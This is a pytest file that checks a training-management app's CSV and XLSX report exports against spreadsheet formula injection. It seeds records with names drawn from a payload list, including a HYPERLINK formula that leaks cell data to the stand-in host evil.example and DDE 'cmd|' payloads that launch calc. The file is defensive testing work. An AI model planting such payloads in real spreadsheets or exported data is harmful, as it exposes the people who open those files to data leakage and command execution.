"""Spreadsheet formulas in managers' exports (OWASP CSV injection, issue 9 item 6).

Officers, agencies, cohorts, courses, scenarios and sessions are named with formula payloads;
a manager downloads every table of every report as CSV and every report as XLSX, and no cell
may start with a formula character unescaped, and no workbook cell may be a formula. Numbers
stay numbers."""
from __future__ import annotations

import csv
import io
import re
from html.parser import HTMLParser

import openpyxl
import pytest
from sqlalchemy import select

from conftest import BACKENDS, PASSWORD, logged_in, make_config, own_database
from exported import export_download
from trainer import create_app
from trainer.domain.reports import Column
from trainer.exports import Table, to_csv, to_xlsx
from trainer.extensions import db
from trainer.models import Agency, Cohort, Course, Scenario, TrainingSession, User
from trainer.seed import seed_programme
from trainer.services import create_user

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
PAYLOADS = (
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click for your certificate")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
)
NUMBER = re.compile(r"-?\d+(\.\d+)?")
MANAGER = "manager@injection.test"
REPORTS = ("overview", "completion", "attendance", "knowledge-gain", "scenarios", "disaggregation")


def payload(index: int) -> str:
    return f"{PAYLOADS[index % len(PAYLOADS)]} #{index}"


@pytest.fixture(scope="module", params=BACKENDS)
def hostile_programme(request, tmp_path_factory):
    """A small seeded programme whose every name people can choose is a formula payload."""
    with own_database(request.param, tmp_path_factory.mktemp('injection'), 'injection') as url:
        app = create_app(make_config(SQLALCHEMY_DATABASE_URI=url))
        with app.app_context():
            db.create_all()
            seed_programme(12, 11)
            counter = 0
            for model, attributes in ((User, ("full_name", "rank")), (Agency, ("name", "short_name")),
                                      (Cohort, ("name",)), (Course, ("title",)), (Scenario, ("title",)),
                                      (TrainingSession, ("topic",))):
                for row in db.session.scalars(select(model)):
                    for attribute in attributes:
                        setattr(row, attribute, payload(counter)[:40] if attribute == "short_name" else payload(counter))
                        counter += 1
            create_user(MANAGER, "=HYPERLINK(\"http://evil.example\",\"Manager\")", PASSWORD, role="manager")
            db.session.commit()
        yield app
        with app.app_context():
            db.session.remove()
            db.engine.dispose()


@pytest.fixture(scope="module")
def manager(hostile_programme):
    return logged_in(hostile_programme, MANAGER)


class CsvLinks(HTMLParser):
    def __init__(self):
        super().__init__()
        self.links: list[str] = []

    def handle_starttag(self, tag, attrs):
        href = dict(attrs).get("href") or ""
        if tag == "a" and "/export.csv" in href:
            self.links.append(href)


def csv_exports(client) -> dict[str, list[list[str]]]:
    """Every CSV a manager can download from the report pages, read back with the csv module."""
    found = {}
    for report in REPORTS:
        page = client.get(f"/reports/{report}" if report != "overview" else "/reports/")
        assert page.status_code == 200
        parser = CsvLinks()
        parser.feed(page.get_data(as_text=True))
        assert parser.links, report
        for link in parser.links:
            response = client.get(link.replace("&amp;", "&"))
            assert response.status_code == 200, link
            found[link] = list(csv.reader(io.StringIO(response.data.decode("utf-8-sig"), newline="")))
    return found


def unescaped(cell: str) -> bool:
    """True when a spreadsheet would take the cell for a formula (a plain number is fine)."""
    return cell.startswith(FORMULA_START) and not NUMBER.fullmatch(cell)


def test_no_csv_export_holds_a_formula(manager):
    exports = csv_exports(manager)
    assert len(exports) >= len(REPORTS)
    everything = [cell for rows in exports.values() for row in rows for cell in row]
    assert [cell for cell in everything if unescaped(cell)] == []
    # The payloads are there, escaped: the names are kept, not dropped.
    assert any(cell.startswith("'=cmd|' /C calc'!A0") for cell in everything)
    assert any(cell.startswith("'=HYPERLINK(") for cell in everything)
    assert any(cell.startswith("'\t=1+1") for cell in everything)


def test_no_xlsx_export_holds_a_formula(hostile_programme, manager):
    seen = []
    for report in REPORTS:
        response = export_download(hostile_programme, manager, f"/reports/exports/{report}.xlsx")
        assert response.status_code == 200
        book = openpyxl.load_workbook(io.BytesIO(response.data))  # not data_only: formulas show as such
        for sheet in book.worksheets:
            for row in sheet.iter_rows():
                for cell in row:
                    assert cell.data_type != "f", (report, sheet.title, cell.coordinate, cell.value)
                    if isinstance(cell.value, str):
                        assert not unescaped(cell.value), (report, sheet.title, cell.coordinate, cell.value)
                        seen.append(cell.value)
    assert any(value.startswith("'=cmd|' /C calc'!A0") for value in seen)
    assert any(value.startswith("'=HYPERLINK(") for value in seen)  # the manager's own name, in "About"


def test_numbers_stay_numbers_and_negative_ones_are_not_text():
    table = Table("gain", "Gain", (Column("name", "Name"), Column("gain", "Gain", "score"),
                                   Column("people", "People", "people")),
                  [{"name": "-Dash Officer", "gain": -12.5, "people": 7},
                   {"name": "@Handle", "gain": 3.0, "people": 9}], personal=True)
    rows = list(csv.reader(io.StringIO(to_csv(table).decode("utf-8-sig"))))
    assert rows[1:] == [["'-Dash Officer", "-12.5", "7"], ["'@Handle", "3.0", "9"]]
    book = openpyxl.load_workbook(io.BytesIO(to_xlsx([table], [("Exported by", "=evil()")])))
    sheet = book["Gain"]
    assert [[cell.value for cell in row] for row in sheet.iter_rows(min_row=2)] == [
        ["'-Dash Officer", -12.5, 7], ["'@Handle", 3.0, 9]]
    assert sheet["B2"].data_type == "n" and sheet["A2"].data_type == "s"
    assert book["About"]["B1"].value == "'=evil()" and book["About"]["B1"].data_type == "s"
